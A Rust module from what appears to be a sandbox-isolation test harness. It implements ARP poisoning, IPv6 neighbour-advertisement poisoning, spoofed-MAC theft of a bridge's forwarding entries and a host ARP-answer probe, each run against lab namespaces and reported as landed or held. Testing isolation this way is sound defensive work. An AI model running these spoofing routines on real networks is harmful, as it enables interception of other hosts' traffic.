//! Attacks on neighbour state: priming and watching entries, ARP and
//! neighbour-advertisement poisoning, ARP answers of the host, stealing the
//! bridge's forwarding entries.

use super::{ArpStyle, Attacker, WATCH, arp_frame, fmt_mac};
use crate::attack::{AttackError, Outcome};
use crate::lab::topology::SandboxNs;
use crate::lab::{Probe, probe_from};
use crate::raw::frame::{self, ArpOp, BROADCAST, Link, Mac, Transport};
use crate::raw::{Capture, PacketSocket, nd, neigh};
use corral_egress::link::Links;
use corral_egress::netns::Netns;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::time::{Duration, Instant};

/// The MAC of `ifname` inside `ns`.
pub fn mac_of(ns: &Netns, ifname: &str) -> Result<Mac, AttackError> {
    Ok(PacketSocket::open(ns, ifname)?.mac())
}

/// The interface index of `ifname` inside `ns`.
pub fn ifindex(ns: &Netns, ifname: &str) -> Result<u32, AttackError> {
    let name = ifname.to_owned();
    let link = ns.run_async(|| async move { Links::connect()?.require(&name).await })??;
    Ok(link.index)
}

/// Makes `ns` resolve `ip` afresh (its old entry deleted, then one echo
/// request: the answer does not matter, the neighbour lookup before it
/// does) and returns the MAC it learned.
pub fn prime(ns: &Netns, ip: IpAddr) -> Result<Option<Mac>, AttackError> {
    neigh::forget(ns, ip)?;
    let deadline = Instant::now() + Duration::from_secs(2);
    loop {
        let _ = probe_from(ns, &Probe::Icmp { to: ip }, Duration::from_millis(200));
        if let Some(mac) = neigh::mac_for(ns, ip)? {
            return Ok(Some(mac));
        }
        if Instant::now() >= deadline {
            return Ok(None);
        }
    }
}

/// Watches `ns`'s entry for `ip` for [`WATCH`]: landed when it names `evil`.
pub(super) fn watch_entry(
    ns: &Netns,
    ip: IpAddr,
    evil: Mac,
    before: Option<Mac>,
) -> Result<Outcome, AttackError> {
    let deadline = Instant::now() + WATCH;
    loop {
        let now = neigh::mac_for(ns, ip)?;
        if now == Some(evil) {
            return Ok(Outcome::landed(format!(
                "{ip} now resolves to the attacker {} (was {})",
                fmt_mac(evil),
                before.map_or("unresolved".to_owned(), fmt_mac)
            )));
        }
        if Instant::now() >= deadline {
            return Ok(Outcome::held(format!(
                "{ip} still resolves to {}",
                now.map_or("nothing".to_owned(), fmt_mac)
            )));
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// ARP poisoning of `victim_ns`'s entry for `claimed`: the attacker claims
/// the address for its own MAC.
pub fn arp_poison(
    a: &Attacker<'_>,
    victim_ns: &Netns,
    claimed: Ipv4Addr,
    style: ArpStyle,
) -> Result<Outcome, AttackError> {
    let Some(before) = prime(victim_ns, claimed.into())? else {
        return Err(AttackError::Setup(format!(
            "the victim never resolved {claimed}"
        )));
    };
    // No wait for the entry to age: the lab's sandboxes take ARP updates
    // at any age (`locktime` 0; an attacker would wait the lock out).
    a.send(&arp_frame(a, claimed, style)?)?;
    let outcome = watch_entry(victim_ns, claimed.into(), a.mac(), Some(before));
    // Leave no poisoned entry behind for whatever runs next.
    neigh::forget(victim_ns, claimed.into())?;
    outcome
}

/// Neighbour-advertisement poisoning of `victim_ns`'s entry for `claimed`:
/// an unsolicited advertisement with the override flag, to all nodes,
/// naming the attacker's MAC as the target's link-layer address.
pub fn na_poison(
    a: &Attacker<'_>,
    victim_ns: &Netns,
    claimed: Ipv6Addr,
) -> Result<Outcome, AttackError> {
    let Some(before) = prime(victim_ns, claimed.into())? else {
        return Err(AttackError::Setup(format!(
            "the victim never resolved {claimed}"
        )));
    };
    let me = a.mac();
    let f = nd::neighbor_advert(
        &Link::new(me, nd::multicast_mac(nd::ALL_NODES)),
        nd::link_local(me),
        nd::ALL_NODES,
        claimed,
        nd::AdvertFlags {
            override_: true,
            ..nd::AdvertFlags::default()
        },
        Some(me),
        &[],
    )?;
    a.send(&f)?;
    let outcome = watch_entry(victim_ns, claimed.into(), me, Some(before));
    neigh::forget(victim_ns, claimed.into())?;
    outcome
}

/// Sends an ARP request for `target` (an address of the host that is not
/// this bridge's gateway) with the attacker's true sender pair, and
/// reports whether the host answered.
pub fn host_answers_arp_for(a: &Attacker<'_>, target: Ipv4Addr) -> Result<Outcome, AttackError> {
    let me = a.mac();
    let f = frame::arp(
        &Link::new(me, BROADCAST),
        ArpOp::Request,
        me,
        a.sb.v4,
        [0; 6],
        target,
    )?;
    let cap = Capture::open(&a.sb.ns, "eth0")?;
    a.send(&f)?;
    let reply = cap.wait_for(WATCH, |r| is_arp_reply_from(&r.frame, target))?;
    Ok(match reply {
        Some(_) => Outcome::landed(format!("the host answered ARP for {target} on this bridge")),
        None => Outcome::held(format!("no ARP answer for {target} on this bridge")),
    })
}

pub(super) fn is_arp_reply_from(f: &[u8], sender: Ipv4Addr) -> bool {
    f.len() >= 42
        && f[12..14] == [0x08, 0x06]
        && f[20..22] == [0, 2]
        && f[28..32] == sender.octets()
}

/// FDB theft: frames from the attacker with the victim's MAC as source.
/// Landed when the host's bridge sends the victim's MAC to the attacker's
/// port.
pub fn steal_fdb(
    a: &Attacker<'_>,
    victim: &SandboxNs,
    host: &Netns,
) -> Result<Outcome, AttackError> {
    let victim_mac = mac_of(&victim.ns, "eth0")?;
    let victim_port = ifindex(host, &victim.port)?;
    let attacker_port = ifindex(host, &a.sb.port)?;
    // The victim speaks first, so the bridge has learned where it is.
    prime(host, victim.v4.into())?;
    let before = neigh::port_of(host, victim_mac)?;
    let f = frame::ip(
        &Link::new(victim_mac, BROADCAST),
        victim.v4.into(),
        Ipv4Addr::BROADCAST.into(),
        64,
        Transport::Udp { sport: 9, dport: 9 },
        b"fdb",
    )?;
    let deadline = Instant::now() + WATCH;
    let outcome = loop {
        // Sent all through the window: should the victim speak meanwhile
        // (a late echo reply), the next frame takes the entry back.
        a.sock.send(&f)?;
        let now = neigh::port_of(host, victim_mac)?;
        if now == Some(attacker_port) {
            break Outcome::landed(format!(
                "the bridge now sends {} to the attacker's port (was {before:?}, the victim's is {victim_port})",
                fmt_mac(victim_mac)
            ));
        }
        if Instant::now() >= deadline {
            break Outcome::held(format!(
                "{} stays behind port {now:?} (the victim's is {victim_port})",
                fmt_mac(victim_mac)
            ));
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    // The victim speaks again, so the bridge learns where it really is.
    prime(&victim.ns, victim.gateway_v4.into())?;
    Ok(outcome)
}
